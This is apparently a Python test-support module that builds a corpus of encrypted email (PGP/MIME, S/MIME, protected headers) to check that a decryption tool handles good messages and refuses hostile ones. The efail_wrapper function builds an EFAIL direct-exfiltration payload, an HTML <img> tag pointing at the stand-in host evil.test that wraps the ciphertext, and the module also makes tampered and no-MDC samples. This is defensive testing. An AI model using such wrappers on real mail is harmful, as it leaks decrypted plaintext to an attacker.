"""A corpus of encrypted mail made by independent producers (gpg, openssl), for folder tests.

Every sample carries a unique marker inside its plaintext. Good samples must come out of
``imap decrypt`` with the marker readable; hostile ones must leave their marker nowhere.
"""

from __future__ import annotations

import base64
import subprocess
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tests.support import SMIME, GpgHome

Run = Callable[..., subprocess.CompletedProcess[bytes]]

FROM = "Alice <alice@example.test>"
TO = "Bob <bob@example.test>"
BASE_DATE = datetime(2021, 3, 4, 5, 6, 7, tzinfo=UTC)


@dataclass(frozen=True)
class Sample:
    """One message to APPEND, and what a correct run does with it."""

    name: str
    raw: bytes
    marker: str
    good: bool
    flags: tuple[str, ...] = ()
    date: datetime = BASE_DATE
    signed: bool = False
    subject: str | None = None
    message_id: str = field(default="")


def crlf(data: bytes) -> bytes:
    """CRLF line ends everywhere."""
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def outer(message_id: str, subject: str, content_type: str, extra: str = "") -> bytes:
    """An outer header section ending in the blank line."""
    return crlf(
        (
            f"From: {FROM}\nTo: {TO}\nSubject: {subject}\nMessage-ID: {message_id}\n"
            f"Date: Thu, 04 Mar 2021 05:06:07 +0000\n{extra}MIME-Version: 1.0\n"
            f"Content-Type: {content_type}\n\n"
        ).encode()
    )


def pgp_mime(message_id: str, subject: str, armored: bytes) -> bytes:
    """RFC 3156 4 framing around an armored OpenPGP message."""
    ct = 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b-enc"'
    body = (
        b"This is an OpenPGP/MIME encrypted message\n--b-enc\n"
        b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n--b-enc\n"
        b'Content-Type: application/octet-stream; name="encrypted.asc"\n\n'
        + armored
        + b"\n--b-enc--\n"
    )
    return outer(message_id, subject, ct) + crlf(body)


def text_body(marker: str) -> bytes:
    """The text carrying ``marker``."""
    return crlf(f"Hello Bob,\nthe secret is {marker}. Grüße.\n".encode())


def text_part(marker: str) -> bytes:
    """A small text/plain MIME entity carrying ``marker``."""
    head = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    return head + text_body(marker)


def with_attachment(marker: str) -> bytes:
    """multipart/mixed: text plus a base64 attachment whose content holds the marker too."""
    attachment = base64.encodebytes(f"%PDF-fake {marker} attachment\n".encode() * 40)
    return crlf(
        b'Content-Type: multipart/mixed; boundary="b-mix"\n\n--b-mix\n'
        + text_part(marker)
        + b'\n--b-mix\nContent-Type: application/pdf; name="report.pdf"\n'
        b'Content-Disposition: attachment; filename="report.pdf"\n'
        b"Content-Transfer-Encoding: base64\n\n" + attachment + b"--b-mix--\n"
    )


def rfc9788_payload(marker: str, subject: str, message_id: str) -> bytes:
    """A Cryptographic Payload with protected headers (RFC 9788 2.1, 2.2, legacy display 4.5)."""
    return crlf(
        (
            f"Subject: {subject}\nFrom: {FROM}\nTo: {TO}\nMessage-ID: {message_id}\n"
            f"Date: Thu, 04 Mar 2021 05:06:07 +0000\nKeywords: confidential-project\n"
            f"HP-Outer: From: {FROM}\nHP-Outer: To: {TO}\nHP-Outer: Subject: [...]\n"
            f"HP-Outer: Message-ID: {message_id}\n"
            "HP-Outer: Date: Thu, 04 Mar 2021 05:06:07 +0000\n"
            'Content-Type: text/plain; charset="utf-8"; hp="cipher"; hp-legacy-display="1"\n'
            f"\nSubject: {subject}\nKeywords: confidential-project\n\n"
            f"The hidden-subject message, {marker}.\n"
        ).encode()
    )


def armor_crc(data: bytes) -> bytes:
    """CRC-24 of RFC 4880 6.1, base64 as in the armor checksum line."""
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return base64.b64encode((crc & 0xFFFFFF).to_bytes(3, "big"))


def flip_byte(armored: bytes, offset_from_end: int = 30) -> bytes:
    """The same armored message with one ciphertext byte flipped (checksum recomputed)."""
    lines = armored.decode().strip().splitlines()
    start = lines.index("") + 1
    end = next(
        i for i, line in enumerate(lines) if line.startswith("=") or line.startswith("-----END")
    )
    binary = bytearray(base64.b64decode("".join(lines[start:end])))
    binary[len(binary) - offset_from_end] ^= 0x01
    body = base64.encodebytes(bytes(binary)).decode().strip()
    text = (
        "-----BEGIN PGP MESSAGE-----\n\n" + body + "\n=" + armor_crc(bytes(binary)).decode()
        + "\n-----END PGP MESSAGE-----\n"
    )  # fmt: skip
    return text.encode()


class Producer:
    """Makes ciphertext with gpg (alice's home, bob's public key) and openssl."""

    def __init__(self, alice: GpgHome) -> None:
        self.alice = alice

    def encrypt(self, data: bytes, *, sign: bool = False, legacy: bool = False) -> bytes:
        """gpg -a -e to bob (and -s by alice); ``legacy``: no MDC (--rfc2440, CAST5)."""
        args = ["-a", "-e", "-r", "bob@example.test", "--compress-algo", "none"]
        if sign:
            args += ["-s", "-u", "alice@example.test"]
        if legacy:
            args += ["--rfc2440", "--cipher-algo", "CAST5"]
        return self.alice.run(*args, data=data).stdout

    def detach_sign(self, data: bytes) -> bytes:
        """An armored detached signature by alice (RFC 3156 5)."""
        return self.alice.run("-a", "--detach-sign", "-u", "alice@example.test", data=data).stdout

    @staticmethod
    def smime(data: bytes, *, sign: bool = False, gcm: bool = False) -> bytes:
        """openssl: (sign by alice, then) encrypt to bob; the S/MIME entity openssl writes."""
        if sign:
            data = _openssl(
                ["smime", "-sign", "-signer", str(SMIME / "alice.pem"), "-inkey",
                 str(SMIME / "alice.key")], data)  # fmt: skip
        cipher = ["cms", "-encrypt", "-aes-256-gcm"] if gcm else ["smime", "-encrypt", "-aes256"]
        return crlf(_openssl([*cipher, str(SMIME / "bob.pem")], data))


def _openssl(args: list[str], data: bytes) -> bytes:
    return subprocess.run(["openssl", *args], input=data, capture_output=True, check=True).stdout


def _smime_message(message_id: str, entity: bytes) -> bytes:
    head = crlf(
        (
            f"From: {FROM}\nTo: {TO}\nSubject: S/MIME\nMessage-ID: {message_id}\n"
            "Date: Thu, 04 Mar 2021 05:06:07 +0000\n"
        ).encode()
    )
    return head + entity


def efail_wrapper(message_id: str, encrypted_part: bytes, part_type: str) -> bytes:
    """EFAIL direct exfiltration: HTML opens an <img src=, the ciphertext, HTML closes it."""
    ct = 'multipart/mixed; boundary="b-efail"'
    body = (
        b'--b-efail\nContent-Type: text/html\n\n<img src="http://evil.test/\n'
        b"--b-efail\nContent-Type: " + part_type.encode() + b"\n\n" + encrypted_part +
        b'\n--b-efail\nContent-Type: text/html\n\n">\n--b-efail--\n'
    )  # fmt: skip
    return outer(message_id, "Re: your mail", ct) + crlf(body)


def build(producer: Producer, tag: str) -> list[Sample]:
    """The whole corpus; ``tag`` makes message IDs and markers unique per test."""
    samples: list[Sample] = []

    def add(name: str, raw: bytes, marker: str, good: bool, **kw: object) -> None:
        i = len(samples)
        samples.append(
            Sample(name, raw, marker, good, date=BASE_DATE + timedelta(days=i), **kw)  # type: ignore[arg-type]
        )

    def mid(name: str) -> str:
        return f"<{name}.{tag}@example.test>"

    def secret(name: str) -> str:
        return f"SECRET-{name}-{tag}"

    m = secret("pgpmime")
    add("pgpmime", pgp_mime(mid("pgpmime"), "plain PGP/MIME", producer.encrypt(text_part(m))), m,
        True, flags=("\\Seen",), message_id=mid("pgpmime"))  # fmt: skip
    m = secret("signed")
    raw = pgp_mime(mid("signed"), "signed", producer.encrypt(text_part(m), sign=True))
    add("signed", raw, m, True, flags=("\\Flagged", "$Label1"), signed=True,
        message_id=mid("signed"))  # fmt: skip
    m = secret("attach")
    raw = pgp_mime(mid("attach"), "attachment", producer.encrypt(with_attachment(m), sign=True))
    add("attach", raw, m, True, flags=("\\Seen", "\\Answered"), signed=True,
        message_id=mid("attach"))  # fmt: skip
    m = secret("hp")
    payload = rfc9788_payload(m, f"Protected subject {tag}", mid("hp"))
    add("hp", pgp_mime(mid("hp"), "[...]", producer.encrypt(payload, sign=True)), m, True,
        signed=True, subject=f"Protected subject {tag}", message_id=mid("hp"))  # fmt: skip
    m = secret("multisigned")
    signed_part = text_part(m)
    sig = producer.detach_sign(signed_part)
    inner = crlf(
        b'Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature";'
        b' boundary="b-sig"\n\n--b-sig\n' + signed_part + b"\n--b-sig\n"
        b"Content-Type: application/pgp-signature\n\n" + sig + b"\n--b-sig--\n"
    )  # fmt: skip
    add("multisigned", pgp_mime(mid("multisigned"), "RFC 3156 6.1", producer.encrypt(inner)), m,
        True, signed=True, message_id=mid("multisigned"))  # fmt: skip
    m = secret("inline")
    raw = outer(mid("inline"), "inline", "text/plain; charset=utf-8") + crlf(
        producer.encrypt(f"Inline secret {m}\n".encode(), sign=True)
    )
    add("inline", raw, m, True, flags=("\\Seen",), signed=True, message_id=mid("inline"))
    m = secret("smime")
    add("smime", _smime_message(mid("smime"), producer.smime(text_part(m))), m, True,
        message_id=mid("smime"))  # fmt: skip
    m = secret("smimesigned")
    raw = _smime_message(mid("smimesigned"), producer.smime(text_part(m), sign=True))
    add("smimesigned", raw, m, True, signed=True, flags=("\\Seen",),
        message_id=mid("smimesigned"))  # fmt: skip
    m = secret("plain")
    raw = outer(mid("plain"), "not encrypted", "text/plain; charset=utf-8") + text_body(m)
    add("plain", raw, m, False, message_id=mid("plain"))
    hostile(producer, add, mid, secret)
    return samples


def hostile(producer: Producer, add: Callable[..., None], mid: Callable[[str], str],
            secret: Callable[[str], str]) -> None:  # fmt: skip
    """No MDC, a flipped ciphertext byte, and EFAIL wrappers (PGP/MIME and S/MIME)."""
    m = secret("nomdc")
    armored = producer.encrypt(text_part(m), legacy=True)
    add("nomdc", pgp_mime(mid("nomdc"), "legacy", armored), m, False, message_id=mid("nomdc"))
    m = secret("flipped")
    armored = flip_byte(producer.encrypt(text_part(m) + b"x" * 200))
    add("flipped", pgp_mime(mid("flipped"), "tampered", armored), m, False,
        message_id=mid("flipped"))  # fmt: skip
    m = secret("efail")
    part = pgp_mime(mid("x"), "x", producer.encrypt(text_part(m)))
    inner = part[part.index(b"Content-Type: multipart/encrypted") :].split(b"\r\n", 1)[1]
    raw = efail_wrapper(
        mid("efail"),
        inner,
        'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b-enc"',
    )
    add("efail", raw, m, False, message_id=mid("efail"))
    m = secret("efailinline")
    raw = efail_wrapper(mid("efailinline"), producer.encrypt(text_part(m)), "text/plain")
    add("efailinline", raw, m, False, message_id=mid("efailinline"))
    m = secret("efailsmime")
    entity = producer.smime(text_part(m))
    body = entity.split(b"\r\n\r\n", 1)[1]
    part_type = 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n' + (
        "Content-Transfer-Encoding: base64"
    )
    add("efailsmime", efail_wrapper(mid("efailsmime"), body, part_type), m, False,
        message_id=mid("efailsmime"))  # fmt: skip


def hostile_names() -> set[str]:
    """Names of the samples that must never be decrypted."""
    return {"nomdc", "flipped", "efail", "efailinline", "efailsmime"}


def pgp_bulk(producer: Producer, tag: str, count: int, size: int = 4096) -> list[Sample]:
    """``count`` plain PGP/MIME messages of about ``size`` bytes of plaintext (bench, kill test)."""
    out = []
    filler = ("lorem ipsum dolor sit amet " * (size // 27 + 1))[:size]
    for i in range(count):
        marker = f"BULK-{tag}-{i}"
        mid = f"<bulk{i}.{tag}@example.test>"
        inner = text_part(marker) + f"{filler}\n".encode()
        raw = pgp_mime(mid, f"bulk {i}", producer.encrypt(inner))
        out.append(Sample(f"bulk{i}", raw, marker, True, ("\\Seen",), BASE_DATE + timedelta(hours=i),
                          message_id=mid))  # fmt: skip
    return out


def make_home(secret: str, public: str) -> GpgHome:
    """A throwaway GnuPG home with one fixture secret key and one public key (close() it)."""
    path = Path(tempfile.mkdtemp(prefix="e2c-", dir="/tmp"))
    path.chmod(0o700)
    home = GpgHome(path)
    home.import_secret(secret)
    home.import_public(public)
    return home
